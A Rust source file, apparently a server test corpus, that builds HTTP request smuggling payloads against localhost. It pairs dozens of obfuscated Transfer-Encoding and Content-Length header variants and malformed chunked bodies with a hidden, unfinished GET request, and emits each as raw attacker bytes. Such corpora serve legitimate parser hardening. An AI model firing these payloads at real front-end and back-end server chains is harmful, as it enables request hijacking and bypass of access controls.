//! Requests of which two servers may think that they end at different places.
//!
//! Where they do, the rest of one becomes the beginning of [`SMUGGLED`], and what the next client sends its end. After
//! those that PortSwigger's, Bishop Fox's and others' researches have found in real servers.

/// What is hidden. It is not whole, so that what comes next on the same connection would be swallowed.
const SMUGGLED: &str = "GET /smuggled HTTP/1.1\r\nHost: localhost\r\nX-Swallowed: ";

/// Ways to say that a body is chunked, or to seem to.
const CODINGS: &[&str] = &[
    "Transfer-Encoding: chunked",
    "Transfer-Encoding:chunked",
    "TRANSFER-ENCODING: CHUNKED",
    "Transfer-Encoding:\tchunked\t",
    "Transfer-Encoding : chunked",
    "Transfer-Encoding\t: chunked",
    "Transfer-Encoding:\u{b}chunked",
    "Transfer-Encoding:\u{c}chunked",
    "Transfer-Encoding: \u{a0}chunked",
    "Transfer-Encoding: chun\u{212a}ed",
    "Transfer-Encoding: chunked\u{0}",
    "Transfer-Encoding: \u{7f}chunked",
    "Transfer-Encoding: xchunked",
    "Transfer-Encoding: chunkedx",
    "Transfer-Encoding: \"chunked\"",
    "Transfer-Encoding: 'chunked'",
    "Transfer-Encoding: chunked;x=y",
    "Transfer-Encoding: chunked,",
    "Transfer-Encoding: ,chunked",
    "Transfer-Encoding: chunked, chunked",
    "Transfer-Encoding: identity",
    "Transfer-Encoding: identity, chunked",
    "Transfer-Encoding: chunked, identity",
    "Transfer-Encoding: gzip, chunked",
    "Transfer-Encoding:",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
    "Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding:\r\n chunked",
    "Transfer-Encoding:\n chunked",
    "Transfer-Encoding\r\n: chunked",
    "X: y\r\n Transfer-Encoding: chunked",
    "X: y\nTransfer-Encoding: chunked",
    "X: y\rTransfer-Encoding: chunked",
    "X: y\r\n\tTransfer-Encoding: chunked",
    "Transfer-Encoding: chunked\nX: y",
    "Transfer_Encoding: chunked",
    "Transfer-Encoding;: chunked",
    "\u{0}Transfer-Encoding: chunked",
    "Transfer-Encoding: chunked\r\nConnection: Transfer-Encoding",
    "Transfer-Encoding: chunked\r\nConnection: Content-Length",
    "Transfer-Encoding: chunked\r\nConnection: close, Transfer-Encoding\r\nTE: trailers",
];

/// Ways to say how long a body is, with `{}` in the place of the number.
const LENGTHS: &[&str] = &[
    "Content-Length: {}",
    "Content-Length: 0\r\nContent-Length: {}",
    "Content-Length: {}\r\nContent-Length: 0",
    "Content-Length: {}\r\nContent-Length: {}",
    "Content-Length: 0, {}",
    "Content-Length: {}, {}",
    "Content-Length: +{}",
    "Content-Length: 0{}",
    "Content-Length: 0x{}",
    "Content-Length: {}.0",
    "Content-Length: {}\u{0}",
    "Content-Length: \u{b}{}",
    "Content-Length : {}",
    "Content-Length\t: {}",
    "Content-Length:\r\n {}",
    "Content-Length:\n {}",
    "X: y\nContent-Length: {}",
    "X: y\rContent-Length: {}",
    "X: y\r\n Content-Length: {}",
    "Content_Length: {}",
    "Content-Length: {}\r\nConnection: Content-Length",
    "Content-Length: {}\r\nExpect: 100-continue",
    "Content-Length: {}\r\nExpect: 100-continue\r\nExpect: x",
    "Content-Length: {}\r\nExpect: x 100-continue",
    "Content-Length: {}\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\nConnection: Upgrade, HTTP2-Settings",
    "Content-Length: {}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 777",
];

/// Bodies in chunks that may end before [`SMUGGLED`], or with it in them.
const CHUNKS: &[&str] = &[
    "0\r\n\r\n{}",
    "0;x\r\n\r\n{}",
    "0;\r\n\r\n{}",
    "0;a=\"\r\n\r\n{}",
    "0;a=\"b\\\r\n\r\n{}",
    "0\n\r\n{}",
    "0\r\n\n{}",
    "0\n\n{}",
    "0\r\r{}",
    "0 \r\n\r\n{}",
    "0\t;\r\n\r\n{}",
    " 0\r\n\r\n{}",
    "+0\r\n\r\n{}",
    "-0\r\n\r\n{}",
    "0x0\r\n\r\n{}",
    "00000000000000000000\r\n\r\n{}",
    "10000000000000000\r\n\r\n{}",
    "100000000\r\n\r\n{}",
    "fffffffffffffffe\r\n\r\n{}",
    "\r\n0\r\n\r\n{}",
    "2\r\nxx0\r\n\r\n{}",
    "2\r\nxx\n0\r\n\r\n{}",
    "2\r\nxx\r0\r\n\r\n{}",
    "2\r\nxxyy0\r\n\r\n{}",
    "2;\nxx\r\n40\r\n0\r\n\r\n{}",
    "2;\rxx\r\n40\r\n0\r\n\r\n{}",
    "2;a=\"\n\"\r\nxx\r\n0\r\n\r\n{}",
    "2\nxx\r\n0\r\n\r\n{}",
    "1\r\nZ\r\nQ\r\n\r\n{}",
    "0\r\nContent-Length: 60\r\n\r\n{}",
    "0\r\nTransfer-Encoding: chunked\r\n\r\n{}",
    "0\r\nX: y\n\r\n{}",
    "0\r\nX: y\r\r\n{}",
    "0\r\n X: y\r\n\r\n{}",
    "0\r\nX\r\n\r\n{}",
    "0\r\nX : y\r\n\r\n{}",
    "0\r\n: y\r\n\r\n{}",
];

/// All of them, each as the bytes that an attacker sends.
pub fn all() -> Vec<String> {
    let mut all = Vec::new();
    let head =
        |method: &str, path: &str, rest: &str| format!("{method} {path} HTTP/1.1\r\nHost: localhost\r\n{rest}\r\n\r\n");
    for coding in CODINGS {
        let (end, chunk) = ("0\r\n\r\n", format!("{:x}\r\n", SMUGGLED.len()));
        // By its length the body has all; by its chunks it ends at once.
        let length = end.len() + SMUGGLED.len();
        for rest in [format!("Content-Length: {length}\r\n{coding}"), format!("{coding}\r\nContent-Length: {length}")] {
            all.push(head("POST", "/echo", &rest) + end + SMUGGLED);
        }
        // By its chunks it has all; by its length it ends after the first line.
        let rest = format!("Content-Length: {}\r\n{coding}", chunk.len());
        all.push(head("POST", "/echo", &rest) + &chunk + SMUGGLED + "\r\n" + end);
        // No length at all, or that of another version.
        all.push(head("POST", "/echo", coding) + end + SMUGGLED);
        let old = head("POST", "/echo", &format!("{coding}\r\nConnection: keep-alive"));
        all.push(old.replacen("HTTP/1.1", "HTTP/1.0", 1) + end + SMUGGLED);
    }
    for length in LENGTHS {
        let rest = length.replace("{}", &SMUGGLED.len().to_string());
        // Of bodies that are read, that nobody reads, and that no request of this kind should have.
        for (method, path) in
            [("POST", "/echo"), ("POST", "/ignore"), ("GET", "/page"), ("HEAD", "/page"), ("PUT", "/page")]
        {
            all.push(head(method, path, &rest) + SMUGGLED);
        }
    }
    for chunks in CHUNKS {
        for path in ["/echo", "/ignore"] {
            let body = chunks.replace("{}", SMUGGLED);
            all.push(head("POST", path, "Transfer-Encoding: chunked") + &body);
        }
    }
    // More than anybody reads who does not want it.
    let long = format!("{SMUGGLED}z\r\n\r\n").repeat(5000);
    all.push(head("POST", "/ignore", &format!("Content-Length: {}", long.len())) + &long);
    all.push(
        head("POST", "/ignore", "Transfer-Encoding: chunked") + &format!("{:x}\r\n{long}\r\n0\r\n\r\n", long.len()),
    );
    all
}
